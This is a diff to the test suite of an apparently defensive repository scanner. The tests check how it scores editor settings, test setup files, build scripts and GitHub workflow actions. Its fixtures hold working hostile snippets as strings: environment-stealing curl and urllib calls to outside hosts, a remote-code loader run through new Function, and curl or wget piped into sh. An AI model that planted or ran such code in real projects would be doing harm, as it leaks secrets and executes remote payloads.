@@ -169,10 +169,12 @@ jobs:
     expect(fork.verdict).toBe('ALLOW');
   });
 
-  it('blocks an action whose tag was repointed to malicious code (unpinned, also the LOW every unpinned third-party action gets)', async () => {
+  it('blocks the malicious commit of a compromised action; its restored tags are a MED (also the LOW every unpinned third-party action gets)', async () => {
+    const bad = await analyze(wf(`on: push\njobs:\n  j:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: tj-actions/changed-files@0e58ed8671d6b60d0890c21b07f8835ace038e67\n`));
+    expect(bad.findings.map((f) => [f.severity, f.line, f.title])).toEqual([['CRIT', 6, 'workflow uses a commit of an action known to be malicious']]);
     const result = await analyze(wf(`on: push\njobs:\n  j:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: tj-actions/changed-files@v45\n      - uses: docker/setup-buildx-action@v3\n`));
     expect(result.findings.map((f) => [f.severity, f.line])).toEqual([
-      ['CRIT', 7],
+      ['MED', 7],
       // One finding per title and file: the LOW of line 8's action collapses into line 7's.
       ['LOW', 7],
     ]);
@@ -204,7 +206,7 @@ jobs:
       ['HIGH', 6, 'workflow script prints a secret'],
       ['HIGH', 7, 'workflow script prints or sends every secret'],
       ['HIGH', 8, 'workflow script sends a secret to an unfamiliar host'],
-      ['MED', 9, 'workflow pipes a downloaded script into a shell'],
+      ['LOW', 9, 'workflow pipes an official installer into a shell'],
     ]);
   });
 });
@@ -248,5 +250,85 @@ describe('analyzeRepository: committed secrets', () => {
     });
     expect(result.findings).toMatchObject([{ severity: 'LOW', file: 'test/fixtures/tls.key', line: 1 }]);
     expect(result.verdict).toBe('ALLOW');
+  });
+});
+
+describe('analyzeRepository: programs the editor and the test runner start', () => {
+  const stealer = "#!/bin/sh\ncurl -s -d \"$(env)\" https://collect.example-metrics.net/c\nexec /usr/bin/php \"$@\"\n";
+
+  it('reports a workspace setting naming a committed program at MED and analyzes the program as code run automatically', async () => {
+    const result = await analyze({ '.vscode/settings.json': '{\n  // pinned\n  "php.validate.executablePath": "./tools/php"\n}\n', 'tools/php': stealer });
+    const setting = result.findings.find((f) => f.title === 'workspace settings make the editor run a program committed in the repository');
+    expect(setting).toMatchObject({ severity: 'MED', file: '.vscode/settings.json', line: 3, evidence: 'php.validate.executablePath: tools/php' });
+    expect(result.findings).toContainEqual(expect.objectContaining({ severity: 'CRIT', file: 'tools/php', line: 2, title: 'script run automatically: sends the whole environment over the network' }));
+    expect(result.verdict).toBe('BLOCK');
+  });
+
+  it('follows go.alternateTools maps and ${workspaceFolder} paths, in a workspace below the root', async () => {
+    const settings = JSON.stringify({ 'go.alternateTools': { go: '${workspaceFolder}/hack/go.sh' } });
+    const result = await analyze({ 'svc/.vscode/settings.json': settings, 'svc/hack/go.sh': stealer.replace('#!/bin/sh\n', '') });
+    expect(result.findings.map((f) => f.file)).toEqual(expect.arrayContaining(['svc/.vscode/settings.json', 'svc/hack/go.sh']));
+  });
+
+  it('ignores settings naming paths that are not committed files (node_modules, .venv, absolute paths, directories)', async () => {
+    const settings = JSON.stringify({ 'typescript.tsdk': 'node_modules/typescript/lib', 'python.defaultInterpreterPath': '${workspaceFolder}/.venv/bin/python', 'git.path': '/usr/bin/git', 'jest.rootPath': 'packages' });
+    const result = await analyze({ '.vscode/settings.json': settings, 'packages/a.txt': 'x' });
+    expect(result.findings).toEqual([]);
+  });
+
+  it('gives a whole command line setting the command checks as automatic', async () => {
+    const result = await analyze({ '.vscode/settings.json': JSON.stringify({ 'jest.jestCommandLine': 'curl -s http://203.0.113.9/j.sh | sh' }) });
+    expect(result.findings).toContainEqual(expect.objectContaining({ severity: 'CRIT', title: 'VS Code setting jest.jestCommandLine: downloads code from plain HTTP, an IP address or an anonymous host and runs it' }));
+  });
+
+  it('analyzes conftest.py even under tests/, and the setup files a Jest or Vitest configuration names', async () => {
+    const conftest = 'import os, json, urllib.request\nurllib.request.urlopen("https://c.example-stats.net/x", data=json.dumps(dict(os.environ)).encode())\n';
+    const loader = "export default async () => {\n  const code = await (await fetch('https://cdn.example-assets.net/b.js')).text();\n  new Function(code)();\n};\n";
+    const result = await analyze({
+      'tests/conftest.py': conftest,
+      'vitest.config.mjs': "export default { test: { globalSetup: ['./test/setup.mjs'], setupFiles: 'jest-extended/all' } };\n",
+      'test/setup.mjs': loader,
+    });
+    const files = new Set(result.findings.filter((f) => f.severity === 'CRIT').map((f) => f.file));
+    expect(files).toEqual(new Set(['tests/conftest.py', 'test/setup.mjs']));
+    expect(result.findings.find((f) => f.file === 'test/setup.mjs')!.evidence).toContain('[test setup code');
+  });
+
+  it('leaves ordinary test setup alone: a local server, a database container, environment defaults', async () => {
+    const conftest = 'import os, subprocess, sys\nimport pytest\n\n@pytest.fixture\ndef url():\n    return os.environ.get("DATABASE_URL", "sqlite://")\n\n@pytest.fixture\ndef server():\n    p = subprocess.Popen([sys.executable, "-m", "http.server", "8765"])\n    yield "http://127.0.0.1:8765"\n    p.terminate()\n';
+    const setup = "const { execSync } = require('child_process');\nmodule.exports = async () => { execSync('docker compose up -d db'); };\n";
+    const result = await analyze({ 'tests/conftest.py': conftest, 'jest.config.js': "module.exports = { globalSetup: '<rootDir>/test/setup.js' };\n", 'test/setup.js': setup });
+    expect(result.verdict).toBe('ALLOW');
+  });
+});
+
+describe('analyzeRepository: build scripts of other ecosystems', () => {
+  it('checks command lines of build.rs and Gradle scripts as run on IDE import, CMake and m4 as configure scripts, skipping comments', async () => {
+    const result = await analyze({
+      'build.rs': 'fn main() {\n    // curl -s https://x.example.net/a | sh\n    Command::new("sh").arg("-c").arg("curl -s https://x.example.net/a | sh").status();\n}\n',
+      'lib/build.gradle': "task warm(type: Exec) {\n  commandLine 'sh', '-c', 'wget -qO- http://198.51.100.4/w | sh'\n}\n",
+      'CMakeLists.txt': '# curl -s https://paste.ee/r/x | sh\nexecute_process(COMMAND sh -c "curl -s https://example.org/x | sh")\n',
+    });
+    const got = result.findings.map((f) => [f.severity, f.title, f.file, f.line]);
+    expect(got).toEqual(
+      expect.arrayContaining([
+        ['HIGH', 'build script run on IDE import: downloads code from the network and runs it', 'build.rs', 3],
+        ['CRIT', 'build script run on IDE import: downloads code from plain HTTP, an IP address or an anonymous host and runs it', 'lib/build.gradle', 2],
+        ['MED', 'configure script: downloads code from the network and runs it', 'CMakeLists.txt', 2],
+      ]),
+    );
+    expect(got).toHaveLength(3);
+  });
+});
+
+describe('analyzeRepository: test setup code is judged as a test harness', () => {
+  it('reports environment isolation, fetch mocking and monkey-patching in test setup at LOW, but not the same code in a build configuration', async () => {
+    const setup = 'import { record } from "./rec";\nglobalThis.fetch = record(globalThis.fetch);\n';
+    const conftest = 'import os\nimport urllib.request\nimport pytest\n\n@pytest.fixture(autouse=True)\ndef clean():\n    saved = os.environ.copy()\n    yield\n    os.environ.clear()\n    os.environ.update(saved)\n\n@pytest.fixture\ndef up():\n    return urllib.request.urlopen("http://127.0.0.1:8000/health")\n';
+    const result = await analyze({ 'jest.config.js': "module.exports = { setupFilesAfterEnv: ['<rootDir>/scripts/jest-setup.js'] };\n", 'scripts/jest-setup.js': setup, 'tests/conftest.py': conftest, 'vite.config.js': setup });
+    const severities = (file: string) => result.findings.filter((f) => f.file === file).map((f) => f.severity);
+    expect(severities('scripts/jest-setup.js')).toEqual(['LOW']);
+    expect(severities('tests/conftest.py')).toEqual(['LOW']);
+    expect(severities('vite.config.js')).toContain('MED');
   });
 });
